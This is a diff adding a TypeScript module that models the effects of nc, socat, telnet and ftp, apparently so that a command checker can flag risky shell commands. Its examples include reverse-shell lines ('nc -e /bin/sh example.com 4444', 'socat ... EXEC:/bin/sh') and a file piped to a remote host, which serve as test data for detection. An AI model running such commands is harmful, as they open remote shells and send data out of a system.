@@ -1,0 +1,99 @@
+import { connect, defineCommand, type Draft, execute, printsTainted, read, send, unknown, write } from '../../command-spec.ts'
+import { dropPrefix, join, knownPrefix, literal, show, type Word } from '../../value.ts'
+import { optionTable } from '../_option-table.ts'
+
+export default [
+  defineCommand({
+    name: 'nc',
+    aliases: ['ncat', 'netcat', 'nc.traditional', 'nc.openbsd'],
+    about: 'open raw connections',
+    options: optionTable({
+      flag: '-4 -6 -b -C|--crlf -d -D -F -h -k|--keep-open -l|--listen -n|--nodns -N -r -S -t|--telnet -u|--udp -U|--unixsock -v|--verbose -z --ssl --sctp --send-only --recv-only --no-shutdown --broker --chat --ssl-verify -L',
+      value:
+        '-I -i|--idle-timeout -m|--max-conns -M -O -p|--source-port -P -q -s|--source -T -V -w|--wait -x -X --proxy --proxy-type -g -G --ssl-cert --ssl-key --allow --deny --max-conns -e|--exec -c|--sh-exec --lua-exec',
+      writes: '-o|--output --hex-dump -x',
+    }),
+    effects: ({ operands: [host, port], has, value, hasStdin }): readonly Draft[] => {
+      // a program at the end of a connection is a shell for the other side
+      const program = value('-e') ?? value('-c') ?? value('--lua-exec')
+      if (program) return [execute('remote-shell', program), connect(has('-l') ? 'listen' : 'login', host ?? 'any host')]
+      if (has('-l'))
+        return [
+          connect('listen', port ?? host ?? value('-p') ?? 'a port'),
+          ...(hasStdin ? [send('data', 'any host', { carries: ['stdin'] })] : []),
+          printsTainted('download'),
+        ]
+      if (!host) return []
+      const target = port && !has('-U') ? join(host, literal(':'), port) : host
+      if (has('-z')) return [connect('query', target)]
+      return [connect('login', target), ...(hasStdin ? [send('data', target, { carries: ['stdin'] })] : []), printsTainted('download')]
+    },
+    examples: [
+      ['nc -zv localhost 5432', 'connect:query localhost:5432'],
+      ['cat a.txt | nc example.com 9000', 'read a.txt', 'connect:login example.com:9000', 'send:data example.com:9000'],
+      ['nc -e /bin/sh example.com 4444', 'execute:remote-shell /bin/sh', 'connect:login example.com'],
+      ['nc -l 8080', 'connect:listen 8080'],
+      ['nc --zap', 'unknown: option `--zap` of `nc` is not described'],
+    ],
+  }),
+  defineCommand({
+    name: 'socat',
+    about: 'join two streams of any kind',
+    style: 'posix',
+    options: optionTable({ flag: '-d -dd -ddd -D -h -l -ls -lu -ly -s -u -U -v -V -x -g -4 -6', value: '-b -t -T -L -lf -lp -lm -W' }),
+    effects: ({ operands }) => {
+      return operands.flatMap((address) => addressEffects(address))
+    },
+    examples: [
+      ['socat - TCP:example.com:80', 'connect:login example.com:80'],
+      ['socat TCP:example.com:4444 EXEC:/bin/sh', 'connect:login example.com:4444', 'execute:remote-shell EXEC:/bin/sh'],
+      ['socat TCP-LISTEN:8080,fork TCP:localhost:3000', 'connect:listen 8080', 'connect:login localhost:3000'],
+      ['socat - MAGIC:x', 'unknown: address `MAGIC:x` of `socat` is not described'],
+    ],
+  }),
+  defineCommand({
+    name: 'telnet',
+    about: 'open a plain text session',
+    options: optionTable({ flag: '-4 -6 -8 -a -c -d -E -K -L -r', value: '-b -e -l -S -X' }),
+    effects: ({ operands: [host, port], hasStdin }): readonly Draft[] => {
+      if (!host) return []
+      const target = port ? join(host, literal(':'), port) : host
+      return [connect('login', target), ...(hasStdin ? [send('data', target, { carries: ['stdin'] })] : []), printsTainted('download')]
+    },
+    examples: [
+      ['telnet localhost 6379', 'connect:login localhost:6379'],
+      ['telnet -n f x', 'unknown: option `-n` of `telnet` is not described'],
+    ],
+  }),
+  defineCommand({
+    name: 'ftp',
+    aliases: ['lftp', 'tftp', 'ncftp', 'ncftpput', 'ncftpget', 'smbclient', 'cadaver'],
+    about: 'transfer files in a session',
+    // -e and -c hold commands, among them `!shell`
+    options: optionTable({ flag: '-4 -6 -a -d -g -i -n -p -q -v -V', value: '-P -N -s -u' }),
+    effects: ({ operands: [host], hasStdin }) => [
+      connect('login', host ?? 'a host'),
+      ...(hasStdin ? [send('upload', host ?? 'a host', { carries: ['stdin'] })] : []),
+      unknown('what the session does is not known'),
+    ],
+    examples: [
+      ['ftp example.com', 'connect:login example.com', 'unknown: what the session does is not known'],
+      ["lftp -e 'put a' example.com", 'unknown: option `-e` of `lftp` is not described'],
+    ],
+  }),
+]
+
+function addressEffects(address: Word): readonly Draft[] {
+  const text = show(address)
+  const [kind = '', ...rest] = text.split(':')
+  const name = kind.toLowerCase().split(',')[0] ?? ''
+  const place = dropPrefix(address, Math.min(kind.length + 1, knownPrefix(address).length))
+  const target = literal((rest.join(':').split(',')[0] ?? '').replace(/^\/\//, ''), address.at)
+  if (/^(?:exec|system|shell)$/.test(name)) return [execute('remote-shell', address)]
+  if (/listen|^(?:udp\d?-recv|udp-recvfrom|socks-listen)/.test(name)) return [connect('listen', target)]
+  if (/^(?:tcp|udp|sctp|ssl|openssl|proxy|socks)/.test(name)) return [connect('login', target)]
+  if (/^(?:-|stdio|stdin|stdout|stderr|fd|pty|pipe|fifo)$/.test(name)) return []
+  if (/^(?:file|open|create|gopen)$/.test(name)) return [read(target), write(target)]
+  if (/^unix/.test(name)) return [connect('login', place)]
+  return [unknown(`address \`${text}\` of \`socat\` is not described`)]
+}
